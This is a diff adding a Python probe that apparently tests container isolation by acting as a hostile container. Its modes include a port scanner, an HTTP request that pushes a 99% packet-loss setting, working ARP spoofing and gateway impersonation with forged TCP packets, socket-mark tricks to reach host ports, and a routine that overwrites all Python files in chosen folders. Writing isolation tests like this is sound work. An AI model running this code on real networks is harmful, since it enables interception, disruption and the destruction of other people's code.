@@ -1,0 +1,170 @@
+"""What a hostile container tries, run inside it as `python3 - MODE ARGUMENTS`; writes one line of JSON.
+
+It has what Docker gives every container: root, and raw sockets. Standard library only.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import struct
+import sys
+import time
+from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+
+SECONDS = 1.0
+ARP, IPV4 = 0x0806, 0x0800
+SYN, PUSH_ACK, SYN_ACK = 0x02, 0x18, 0x12
+CHANGE = b'{"ingress": {"loss": "99%"}}'
+
+
+def connect(host: str, ports: str, send: str = "") -> dict[str, Any]:
+    """What each port says first, or after `send`; its refusal where it says nothing."""
+    numbers = ports.split(",")
+    with ThreadPoolExecutor() as pool:
+        return dict(
+            zip(numbers, pool.map(lambda port: _first_words(host, int(port), send.encode()), numbers), strict=True)
+        )
+
+
+def http(host: str, port: str, method: str, path: str, *headers: str) -> dict[str, Any]:
+    """The status line that a request gets."""
+    head = "".join(f"{line}\r\n" for line in headers)
+    text = f"{method} {path} HTTP/1.1\r\n{head}Content-Length: {len(CHANGE)}\r\nConnection: close\r\n\r\n".encode()
+    return {"status": _first_words(host, int(port), text + CHANGE).split("\r\n")[0]}
+
+
+def spoof(client: str, gateway: str, port: str) -> dict[str, Any]:
+    """Say that the gateway's address is ours, then begin a connection to the client with it, and listen for answers."""
+    with _wire() as wire:
+        own = wire.getsockname()[4]
+        macs = {name: _mac_of(wire, own, name) for name in (client, gateway)}
+        for _ in range(5):
+            wire.send(_arp(2, own, gateway, macs[client], client))
+            wire.send(_arp(1, own, gateway, b"\xff" * 6, client))
+            time.sleep(0.05)
+        heard = 0
+        for source in (own, macs[gateway]):  # the second pretends to have the gateway's hardware address, too
+            wire.send(_tcp(source, macs[client], gateway, client, int(port), SYN))
+            answers = (frame for frame in _heard(wire) if frame[26:34] == _pair(client, gateway))
+            heard += sum(frame[47] == SYN_ACK for frame in answers)
+        return {"answers": heard, "claimed": own.hex(":"), "gateway": macs[gateway].hex(":")}
+
+
+def pretend(gateway: str, seconds: str) -> dict[str, Any]:
+    """Claim the gateway's address against everybody who asks for it, for so long."""
+    print("ready", flush=True)
+    claims, end = 0, time.monotonic() + float(seconds)
+    with _wire() as wire:
+        own = wire.getsockname()[4]
+        while time.monotonic() < end:
+            for frame in _heard(wire):
+                if _is_question(frame, gateway):
+                    wire.send(_arp(2, own, gateway, frame[6:12], socket.inet_ntoa(frame[28:32])))
+                    claims += 1
+    return {"claims": claims}
+
+
+def control(port: str) -> dict[str, Any]:
+    """From inside: mark a socket as the host does, and knock at the host's door."""
+    with socket.socket() as connection:
+        connection.settimeout(SECONDS)
+        try:
+            connection.setsockopt(socket.SOL_SOCKET, 36, 0x73796E74)
+            marked = "marked"
+        except OSError as error:
+            marked = os.strerror(error.errno or 0)
+        try:
+            connection.connect(("127.0.0.1", int(port)))
+            return {"mark": marked, "door": "open"}
+        except OSError as error:
+            return {"mark": marked, "door": str(error)}
+
+
+def overwrite(*folders: str) -> dict[str, Any]:
+    """As root, put other code in the place of all Python code there."""
+    files = [file for folder in folders for file in Path(folder).rglob("*.py*") if file.is_file()]
+    for file in files:
+        file.unlink()
+        file.write_text("raise SystemExit('altered')\n")
+    return {"files": len(files)}
+
+
+def _first_words(host: str, port: int, send: bytes) -> str:
+    try:
+        with socket.create_connection((host, port), SECONDS) as connection:
+            connection.sendall(send)
+            return connection.recv(2000).decode(errors="replace")
+    except OSError as error:
+        return f"{type(error).__name__}"
+
+
+def _wire() -> socket.socket:
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+    wire.bind(("eth0", 3))
+    return wire
+
+
+def _heard(wire: socket.socket, seconds: float = 0.5) -> Iterator[bytes]:
+    end = time.monotonic() + seconds
+    while (left := end - time.monotonic()) > 0:
+        wire.settimeout(left)
+        try:
+            yield wire.recv(2000)
+        except TimeoutError:
+            return
+
+
+def _mac_of(wire: socket.socket, own: bytes, address: str) -> bytes:
+    wire.send(_arp(1, own, socket.gethostbyname(socket.gethostname()), b"\xff" * 6, address))
+    for frame in _heard(wire, SECONDS):
+        if frame[12:14] == b"\x08\x06" and frame[28:32] == socket.inet_aton(address) and frame[22:28] != own:
+            return frame[22:28]
+    raise SystemExit(f"{address} does not answer")
+
+
+def _arp(kind: int, mac: bytes, claimed: str, target: bytes, address: str) -> bytes:
+    asked = bytes(6) if kind == 1 else target
+    ends = mac + socket.inet_aton(claimed) + asked + socket.inet_aton(address)
+    return target + mac + struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, kind) + ends
+
+
+def _is_question(frame: bytes, address: str) -> bool:
+    asks = struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, 1)
+    return frame[12:22] == asks and frame[38:42] == socket.inet_aton(address)
+
+
+def _tcp(source: bytes, target: bytes, sender: str, receiver: str, port: int, flags: int) -> bytes:
+    segment = struct.pack("!HHIIBBHHH", 40000, port, 1000, 0, 5 << 4, flags, 64000, 0, 0)
+    pseudo = _pair(sender, receiver) + struct.pack("!HH", 6, len(segment))
+    segment = segment[:16] + _sum(pseudo + segment) + segment[18:]
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0) + _pair(sender, receiver)
+    return target + source + struct.pack("!H", IPV4) + head[:10] + _sum(head) + head[12:] + segment
+
+
+def _pair(sender: str, receiver: str) -> bytes:
+    return socket.inet_aton(sender) + socket.inet_aton(receiver)
+
+
+def _sum(data: bytes) -> bytes:
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return struct.pack("!H", ~total & 0xFFFF)
+
+
+MODES: dict[str, Callable[..., dict[str, Any]]] = {
+    "connect": connect,
+    "http": http,
+    "spoof": spoof,
+    "pretend": pretend,
+    "control": control,
+    "overwrite": overwrite,
+}
+
+if __name__ == "__main__":
+    print(json.dumps(MODES[sys.argv[1]](*sys.argv[2:])))
